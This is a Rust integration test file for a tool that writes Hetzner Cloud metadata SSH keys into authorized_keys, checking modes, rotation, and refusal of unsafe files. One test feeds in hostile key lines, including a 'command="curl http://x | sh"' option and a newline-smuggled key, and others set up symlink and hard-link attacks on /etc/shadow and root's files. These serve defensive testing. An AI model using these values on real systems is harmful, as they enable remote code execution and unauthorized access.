//! The real `hcloud-ssh-keys` binary on `--root` temp trees: what a user would check is the file
//! on disk, its mode and owner, and that OpenSSH's own tools read it.

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, chown, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use hcloud_metadata::{Document, Network};

const BIN: &str = env!("CARGO_BIN_EXE_hcloud-ssh-keys");
const BEGIN: &str = hcloud_ssh_keys::block::BEGIN;
const END: &str = hcloud_ssh_keys::block::END;

/// A root tree with root and alice in /etc/passwd and a document.
struct Tree {
    dir: tempfile::TempDir,
    keys: tempfile::TempDir,
}

impl Tree {
    fn new() -> Tree {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        fs::create_dir_all(root.join("etc")).unwrap();
        fs::write(
            root.join("etc/passwd"),
            "root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000:Alice:/home/alice:/bin/sh\n\
             mallory:x:2000:2000::/home/mallory:/bin/sh\n",
        )
        .unwrap();
        fs::create_dir_all(root.join("root")).unwrap();
        fs::set_permissions(root.join("root"), fs::Permissions::from_mode(0o700)).unwrap();
        fs::create_dir_all(root.join("home/alice")).unwrap();
        chown(root.join("home/alice"), Some(1000), Some(1000)).unwrap();
        Tree {
            dir,
            keys: tempfile::tempdir().unwrap(),
        }
    }

    fn root(&self) -> &Path {
        self.dir.path()
    }

    fn p(&self, rel: &str) -> PathBuf {
        self.root().join(rel)
    }

    fn write_doc(&self, instance_id: u64, ssh_keys: &[String]) {
        let doc = Document {
            instance_id,
            hostname: Some("app-7".into()),
            region: None,
            availability_zone: None,
            ssh_keys: ssh_keys.to_vec(),
            network: Network::default(),
        };
        fs::write(self.p("etc/hcloud-metadata.json"), doc.to_json()).unwrap();
    }

    fn run(&self, extra: &[&str]) -> Output {
        let out = Command::new(BIN)
            .arg("--root")
            .arg(self.root())
            .args(extra)
            .env_remove("JOURNAL_STREAM")
            .output()
            .unwrap();
        eprintln!("{}", String::from_utf8_lossy(&out.stderr));
        out
    }

    /// A fresh key pair made by ssh-keygen; returns the public line and ssh-keygen's fingerprint.
    fn keygen(&self, name: &str, args: &[&str]) -> (String, String) {
        let path = self.keys.path().join(name);
        let st = Command::new("ssh-keygen")
            .args(args)
            .args(["-q", "-N", "", "-C", &format!("{name}@test"), "-f"])
            .arg(&path)
            .status()
            .expect("ssh-keygen (openssh-client) must be installed: scripts/install-deps");
        assert!(st.success());
        let line = fs::read_to_string(path.with_extension("pub"))
            .unwrap()
            .trim()
            .to_string();
        let fp = fingerprints(&path.with_extension("pub")).remove(0);
        (line, fp)
    }
}

/// The fingerprints ssh-keygen reads from a public key or authorized_keys file.
fn fingerprints(file: &Path) -> Vec<String> {
    let out = Command::new("ssh-keygen")
        .args(["-l", "-E", "sha256", "-f"])
        .arg(file)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "ssh-keygen -l {}: {}",
        file.display(),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| l.split_whitespace().nth(1).unwrap().to_string())
        .collect()
}

fn block(lines: &[&str]) -> String {
    let mut s = format!("{BEGIN}\n");
    for l in lines {
        s.push_str(l);
        s.push('\n');
    }
    s.push_str(END);
    s.push('\n');
    s
}

fn mode(p: &Path) -> u32 {
    fs::symlink_metadata(p).unwrap().mode() & 0o7777
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn installs_root_keys_with_safe_modes_and_openssh_reads_them() {
    let t = Tree::new();
    let (ed, ed_fp) = t.keygen("ed", &["-t", "ed25519"]);
    let (rsa, rsa_fp) = t.keygen("rsa", &["-t", "rsa", "-b", "2048"]);
    let (p256, p256_fp) = t.keygen("p256", &["-t", "ecdsa", "-b", "256"]);
    let (p384, p384_fp) = t.keygen("p384", &["-t", "ecdsa", "-b", "384"]);
    let (p521, p521_fp) = t.keygen("p521", &["-t", "ecdsa", "-b", "521"]);
    let all = [ed, rsa, p256, p384, p521];
    t.write_doc(7, &all);

    let out = t.run(&[]);
    assert!(out.status.success());
    let ak = t.p("root/.ssh/authorized_keys");
    let refs: Vec<&str> = all.iter().map(String::as_str).collect();
    assert_eq!(fs::read_to_string(&ak).unwrap(), block(&refs));
    assert_eq!(mode(&t.p("root/.ssh")), 0o700);
    assert_eq!(mode(&ak), 0o600);
    // OpenSSH parses every line we wrote, and our fingerprints are its fingerprints.
    let expected = vec![ed_fp, rsa_fp, p256_fp, p384_fp, p521_fp];
    assert_eq!(fingerprints(&ak), expected);
    let err = stderr(&out);
    for fp in &expected {
        assert!(
            err.lines()
                .any(|l| l.contains("added SSH key") && l.contains(fp.as_str())),
            "{fp} not logged: {err}"
        );
    }

    // Second run: byte-identical, not even rewritten.
    let before = fs::metadata(&ak).unwrap();
    let out = t.run(&[]);
    assert!(out.status.success());
    let after = fs::metadata(&ak).unwrap();
    assert_eq!(fs::read_to_string(&ak).unwrap(), block(&refs));
    assert_eq!(
        (before.ino(), before.mtime_nsec()),
        (after.ino(), after.mtime_nsec())
    );
    assert!(!stderr(&out).contains("added SSH key"));
}

#[test]
fn rotation_replaces_only_the_block_and_logs_added_and_removed() {
    let t = Tree::new();
    let (a, a_fp) = t.keygen("a", &["-t", "ed25519"]);
    let (b, _) = t.keygen("b", &["-t", "ed25519"]);
    let (c, c_fp) = t.keygen("c", &["-t", "ed25519"]);
    let (mine, mine_fp) = t.keygen("mine", &["-t", "ed25519"]);
    fs::create_dir_all(t.p("root/.ssh")).unwrap();
    let ak = t.p("root/.ssh/authorized_keys");
    let user_before = format!("# my own keys\r\n{mine}\r\n\n");
    let user_after = format!("from=\"10.0.0.0/8\" {mine} restricted copy");
    fs::write(
        &ak,
        format!("{user_before}{}{user_after}", block(&[&a, &b])),
    )
    .unwrap();

    t.write_doc(7, &[b.clone(), c.clone()]);
    let out = t.run(&[]);
    assert!(out.status.success());
    assert_eq!(
        fs::read_to_string(&ak).unwrap(),
        format!("{user_before}{}{user_after}", block(&[&b, &c]))
    );
    let err = stderr(&out);
    assert!(
        err.lines()
            .any(|l| l.contains("removed SSH key") && l.contains(&a_fp)),
        "{err}"
    );
    assert!(
        err.lines()
            .any(|l| l.contains("added SSH key") && l.contains(&c_fp)),
        "{err}"
    );
    assert!(
        !err.contains(&mine_fp),
        "the user's key is not the agent's business: {err}"
    );
    assert_eq!(mode(&ak), 0o600);
}

#[test]
fn empty_list_empties_the_block_and_keeps_user_keys() {
    let t = Tree::new();
    let (a, a_fp) = t.keygen("a", &["-t", "ed25519"]);
    let (mine, mine_fp) = t.keygen("mine", &["-t", "ed25519"]);
    t.write_doc(7, std::slice::from_ref(&a));
    assert!(t.run(&[]).status.success());
    let ak = t.p("root/.ssh/authorized_keys");
    // The user adds their own key after the block.
    let mut content = fs::read_to_string(&ak).unwrap();
    content.push_str(&format!("{mine}\n"));
    fs::write(&ak, &content).unwrap();

    t.write_doc(7, &[]);
    let out = t.run(&[]);
    assert!(out.status.success());
    assert_eq!(
        fs::read_to_string(&ak).unwrap(),
        format!("{}{mine}\n", block(&[]))
    );
    assert_eq!(fingerprints(&ak), vec![mine_fp]);
    assert!(stderr(&out).contains(&a_fp));
}

#[test]
fn no_keys_and_no_file_creates_nothing() {
    let t = Tree::new();
    t.write_doc(7, &[]);
    assert!(t.run(&[]).status.success());
    assert!(!t.p("root/.ssh").exists());
}

#[test]
fn hostile_lines_are_refused_one_by_one_and_good_keys_still_written() {
    let t = Tree::new();
    let (good, good_fp) = t.keygen("good", &["-t", "ed25519"]);
    let (other, other_fp) = t.keygen("other", &["-t", "ed25519"]);
    let lines = vec![
        format!("command=\"curl http://x | sh\" {other}"),
        good.clone(),
        format!(
            "{good}\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBADBADBADBADBADBADBADBADBADBADBADBADBADBADBA evil"
        ),
        "not a key at all".to_string(),
        other.replacen("ssh-ed25519", "ssh-rsa", 1),
    ];
    t.write_doc(7, &lines);
    let out = t.run(&[]);
    assert!(out.status.success(), "good keys written means done");
    let ak = t.p("root/.ssh/authorized_keys");
    assert_eq!(fs::read_to_string(&ak).unwrap(), block(&[&good]));
    assert_eq!(fingerprints(&ak), vec![good_fp]);
    let err = stderr(&out);
    assert!(
        err.lines()
            .any(|l| l.contains("key 1 of 5") && l.contains("options")),
        "{err}"
    );
    assert!(
        err.contains(&other_fp),
        "refused key named by fingerprint: {err}"
    );
    assert!(
        err.lines()
            .any(|l| l.contains("key 3 of 5") && l.contains("a newline")),
        "{err}"
    );
    assert!(
        err.lines()
            .any(|l| l.contains("key 4 of 5") && l.contains("not a supported key type")),
        "{err}"
    );
    assert!(
        err.lines()
            .any(|l| l.contains("key 5 of 5") && l.contains("says it is a \"ssh-ed25519\" key")),
        "{err}"
    );
}

#[test]
fn non_root_user_gets_own_ssh_dir() {
    let t = Tree::new();
    let (a, a_fp) = t.keygen("a", &["-t", "ed25519"]);
    t.write_doc(7, &[a]);
    assert!(t.run(&["--user", "alice"]).status.success());
    let ssh = t.p("home/alice/.ssh");
    let ak = ssh.join("authorized_keys");
    let (d, f) = (fs::metadata(&ssh).unwrap(), fs::metadata(&ak).unwrap());
    assert_eq!((d.uid(), d.gid(), d.mode() & 0o7777), (1000, 1000, 0o700));
    assert_eq!((f.uid(), f.gid(), f.mode() & 0o7777), (1000, 1000, 0o600));
    assert_eq!(fingerprints(&ak), vec![a_fp]);
}

#[test]
fn symlinked_authorized_keys_of_a_user_is_refused() {
    let t = Tree::new();
    let (a, _) = t.keygen("a", &["-t", "ed25519"]);
    t.write_doc(7, &[a]);
    // alice points her authorized_keys at a file she must not control.
    fs::write(t.p("etc/shadow"), "root:$6$secret:19000::::::\n").unwrap();
    fs::set_permissions(t.p("etc/shadow"), fs::Permissions::from_mode(0o600)).unwrap();
    let ssh = t.p("home/alice/.ssh");
    fs::create_dir(&ssh).unwrap();
    chown(&ssh, Some(1000), Some(1000)).unwrap();
    symlink("/etc/shadow", ssh.join("authorized_keys")).unwrap();
    symlink(t.p("etc/shadow"), ssh.join("authorized_keys2")).unwrap();
    for target in [None, Some("/home/alice/.ssh/authorized_keys2")] {
        let mut args = vec!["--user", "alice"];
        if let Some(p) = target {
            args.extend(["--authorized-keys", p]);
        }
        let out = t.run(&args);
        assert_eq!(out.status.code(), Some(5), "{args:?}");
        assert!(stderr(&out).contains("symbolic link"), "{}", stderr(&out));
    }
    assert_eq!(
        fs::read_to_string(t.p("etc/shadow")).unwrap(),
        "root:$6$secret:19000::::::\n"
    );
    assert_eq!(mode(&t.p("etc/shadow")), 0o600);
    assert!(
        fs::symlink_metadata(ssh.join("authorized_keys"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
    assert_eq!(
        fs::read_dir(&ssh).unwrap().count(),
        2,
        "no temporary file left behind"
    );
}

#[test]
fn symlinked_or_foreign_ssh_dir_and_hard_links_are_refused() {
    let t = Tree::new();
    let (a, _) = t.keygen("a", &["-t", "ed25519"]);
    t.write_doc(7, &[a]);
    let ssh = t.p("home/alice/.ssh");

    // ~/.ssh is a symlink to root's .ssh
    fs::create_dir_all(t.p("root/.ssh")).unwrap();
    symlink("/root/.ssh", &ssh).unwrap();
    let out = t.run(&["--user", "alice"]);
    assert_eq!(out.status.code(), Some(5));
    assert!(stderr(&out).contains("symbolic link"));
    assert!(!t.p("root/.ssh/authorized_keys").exists());
    fs::remove_file(&ssh).unwrap();

    // ~/.ssh owned by another user
    fs::create_dir(&ssh).unwrap();
    chown(&ssh, Some(2000), Some(2000)).unwrap();
    let out = t.run(&["--user", "alice"]);
    assert_eq!(out.status.code(), Some(5));
    assert!(
        stderr(&out).contains("owned by uid 2000"),
        "{}",
        stderr(&out)
    );
    assert_eq!(fs::read_dir(&ssh).unwrap().count(), 0);

    // authorized_keys owned by another user
    chown(&ssh, Some(1000), Some(1000)).unwrap();
    let ak = ssh.join("authorized_keys");
    fs::write(&ak, "mallory's\n").unwrap();
    chown(&ak, Some(2000), Some(2000)).unwrap();
    let out = t.run(&["--user", "alice"]);
    assert_eq!(out.status.code(), Some(5));
    assert_eq!(fs::read_to_string(&ak).unwrap(), "mallory's\n");

    // authorized_keys is a second name of root's file
    fs::remove_file(&ak).unwrap();
    fs::write(t.p("root/secret"), "root only\n").unwrap();
    fs::hard_link(t.p("root/secret"), &ak).unwrap();
    let out = t.run(&["--user", "alice"]);
    assert_eq!(out.status.code(), Some(5));
    assert!(stderr(&out).contains("hard links"), "{}", stderr(&out));
    assert_eq!(
        fs::read_to_string(t.p("root/secret")).unwrap(),
        "root only\n"
    );

    // a named pipe must not hang the agent
    fs::remove_file(&ak).unwrap();
    nix::unistd::mkfifo(&ak, nix::sys::stat::Mode::S_IRWXU).unwrap();
    let out = t.run(&["--user", "alice"]);
    assert_eq!(out.status.code(), Some(5));
    assert!(stderr(&out).contains("named pipe"), "{}", stderr(&out));
}

#[test]
fn stale_or_missing_document_changes_nothing() {
    let t = Tree::new();
    let (a, _) = t.keygen("a", &["-t", "ed25519"]);
    let (b, _) = t.keygen("b", &["-t", "ed25519"]);
    t.write_doc(48151623, std::slice::from_ref(&a));
    fs::create_dir_all(t.p("sys/class/dmi/id")).unwrap();
    fs::write(t.p("sys/class/dmi/id/sys_vendor"), "Hetzner\n").unwrap();
    fs::write(t.p("sys/class/dmi/id/product_serial"), "48151623\n").unwrap();
    assert!(t.run(&[]).status.success());
    let ak = t.p("root/.ssh/authorized_keys");
    let good = fs::read(&ak).unwrap();

    // A snapshot clone: the document is from the old server and has another key list.
    fs::write(t.p("sys/class/dmi/id/product_serial"), "99999999\n").unwrap();
    t.write_doc(48151623, &[b]);
    let out = t.run(&[]);
    assert_eq!(out.status.code(), Some(4));
    assert!(stderr(&out).contains("another server"), "{}", stderr(&out));
    assert_eq!(fs::read(&ak).unwrap(), good);

    // The document is gone or broken: root keeps its keys.
    fs::remove_file(t.p("etc/hcloud-metadata.json")).unwrap();
    let out = t.run(&[]);
    assert_eq!(out.status.code(), Some(3));
    assert_eq!(fs::read(&ak).unwrap(), good);
    fs::write(t.p("etc/hcloud-metadata.json"), "{\"instance_id\": ").unwrap();
    assert_eq!(t.run(&[]).status.code(), Some(3));
    assert_eq!(fs::read(&ak).unwrap(), good);
}

#[test]
fn custom_file_and_unterminated_block() {
    let t = Tree::new();
    let (a, a_fp) = t.keygen("a", &["-t", "ed25519"]);
    t.write_doc(7, &[a]);
    let dir = t.p("etc/ssh/authorized_keys.d");
    fs::create_dir_all(&dir).unwrap();
    let out = t.run(&["--authorized-keys", "/etc/ssh/authorized_keys.d/root"]);
    assert!(out.status.success());
    assert_eq!(fingerprints(&dir.join("root")), vec![a_fp]);
    assert!(!t.p("root/.ssh").exists());

    // A world-writable directory is refused.
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o777)).unwrap();
    let out = t.run(&["--authorized-keys", "/etc/ssh/authorized_keys.d/root"]);
    assert_eq!(out.status.code(), Some(5));
    fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).unwrap();

    // A block someone broke by hand is not guessed at.
    let broken = format!("mine\n{BEGIN}\nssh-ed25519 AAAA old\n");
    fs::write(dir.join("root"), &broken).unwrap();
    let out = t.run(&["--authorized-keys", "/etc/ssh/authorized_keys.d/root"]);
    assert_eq!(out.status.code(), Some(5));
    assert!(stderr(&out).contains("line 2"), "{}", stderr(&out));
    assert_eq!(fs::read_to_string(dir.join("root")).unwrap(), broken);
}

#[test]
fn unknown_user_is_an_error() {
    let t = Tree::new();
    t.write_doc(7, &[]);
    let out = t.run(&["--user", "nobody"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("no user \"nobody\""),
        "{}",
        stderr(&out)
    );
}

#[test]
fn cloud_init_writing_keys_too_is_warned_about() {
    let t = Tree::new();
    let (ed, _) = t.keygen("ed", &["-t", "ed25519"]);
    t.write_doc(7, std::slice::from_ref(&ed));
    fs::create_dir_all(t.p("etc/cloud")).unwrap();
    fs::write(t.p("etc/cloud/cloud.cfg"), "cloud_init_modules:\n  - ssh\n").unwrap();
    let out = t.run(&[]);
    assert!(out.status.success());
    let err = stderr(&out);
    assert!(
        err.contains("cloud-init also writes root's SSH keys")
            && err.contains("allow_public_ssh_keys: false"),
        "{err}"
    );
    // Handed over: no warning any more.
    fs::create_dir_all(t.p("etc/cloud/cloud.cfg.d")).unwrap();
    fs::write(
        t.p("etc/cloud/cloud.cfg.d/99-hcloud-agents.cfg"),
        "allow_public_ssh_keys: false\n",
    )
    .unwrap();
    let out = t.run(&[]);
    assert!(
        !stderr(&out).contains("cloud-init also"),
        "{}",
        stderr(&out)
    );
}

fn write_credential(t: &Tree, dir: &str, text: &str) {
    let d = t.p(dir);
    fs::create_dir_all(&d).unwrap();
    fs::write(d.join("ssh.authorized_keys.root"), text).unwrap();
}

#[test]
fn a_credential_key_not_in_the_metadata_is_warned_about_and_not_used() {
    let t = Tree::new();
    let (ours, _) = t.keygen("ours", &["-t", "ed25519"]);
    let (other, other_fp) = t.keygen("other", &["-t", "ed25519"]);
    t.write_doc(7, std::slice::from_ref(&ours));
    write_credential(&t, "run/credstore", &format!("{other}\n"));
    let out = t.run(&[]);
    assert!(out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        err.matches("credential /run/credstore/ssh.authorized_keys.root")
            .count(),
        1,
        "{err}"
    );
    assert!(err.contains(&other_fp), "{err}");
    assert!(err.contains("the metadata wins"), "{err}");
    assert!(err.contains("systemd.imds.import=0"), "{err}");
    assert!(!err.contains("outside the managed block"), "{err}");
    assert_eq!(
        fs::read_to_string(t.p("root/.ssh/authorized_keys")).unwrap(),
        format!("{BEGIN}\n{ours}\n{END}\n")
    );
}

#[test]
fn a_credential_key_copied_outside_the_block_by_tmpfiles_is_named() {
    let t = Tree::new();
    let (ours, ours_fp) = t.keygen("ours", &["-t", "ed25519"]);
    t.write_doc(7, std::slice::from_ref(&ours));
    // What systemd-imds' import and provision.conf leave on a first boot: the credential in
    // /run/credentials/@system (as well) and the same line as the whole authorized_keys.
    write_credential(&t, "run/credentials/@system", &format!("{ours}\n"));
    fs::create_dir_all(t.p("root/.ssh")).unwrap();
    fs::write(t.p("root/.ssh/authorized_keys"), format!("{ours}\n")).unwrap();
    let out = t.run(&[]);
    assert!(out.status.success());
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("credential /run/credentials/@system/ssh.authorized_keys.root"),
        "{err}"
    );
    assert!(
        err.contains("outside the managed block, as systemd's tmpfiles provision.conf writes it"),
        "{err}"
    );
    assert!(err.contains(&ours_fp), "{err}");
    assert!(!err.contains("the metadata wins"), "{err}");
    // The user's line stays byte for byte; the block is added after it.
    assert_eq!(
        fs::read_to_string(t.p("root/.ssh/authorized_keys")).unwrap(),
        format!("{ours}\n{BEGIN}\n{ours}\n{END}\n")
    );
}

#[test]
fn a_credential_matching_the_metadata_is_quiet() {
    let t = Tree::new();
    let (ours, _) = t.keygen("ours", &["-t", "ed25519"]);
    t.write_doc(7, std::slice::from_ref(&ours));
    write_credential(&t, "run/credstore", &format!("{ours}\n"));
    let out = t.run(&[]);
    assert!(out.status.success());
    assert!(!String::from_utf8_lossy(&out.stderr).contains("credential"));
    // Another user's keys are not compared with root's credential.
    let (other, _) = t.keygen("other", &["-t", "ed25519"]);
    write_credential(&t, "run/credstore", &format!("{other}\n"));
    let out = t.run(&["--user", "alice"]);
    assert!(out.status.success());
    assert!(!String::from_utf8_lossy(&out.stderr).contains("credential"));
}
